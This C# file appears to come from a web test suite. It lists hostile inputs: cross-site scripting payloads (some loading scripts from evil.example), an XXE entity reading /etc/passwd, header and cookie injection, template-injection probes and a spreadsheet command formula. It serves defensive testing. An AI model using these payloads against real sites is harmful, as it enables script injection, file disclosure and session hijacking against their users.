namespace BestPractice.Web.Tests.Hostile;

/// <summary>What is sent to a site by those who look for a hole in it: scripts, headers, templates, formulas.</summary>
internal static class HostileTexts
{
    public static readonly IReadOnlyList<string> All =
    [
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "\"><script src=//evil.example/x.js></script>", "'><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\u2028>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", "` onload=`alert(1)", "x onclick=alert(1) y", "<svg/onload=alert(1)>", "<svg><animate onbegin=alert(1)>", "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
        "<!--<script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<template><script>alert(1)</script>",
        "\r\nX-Injected: 1", "\nSet-Cookie: a=b", "x\r\n\r\n<script>alert(1)</script>", "\u0085X-Injected: 1", "\u560a\u560dX-Injected: 1",
        "{{7*7}}", "${7*7}", "@(7*7)", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}",
        "=cmd|' /C calc'!A0", "[x](javascript:alert(1))", "![x](x\"onerror=\"alert(1))", "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202E<script>alert(1)</script>",
    ];
}
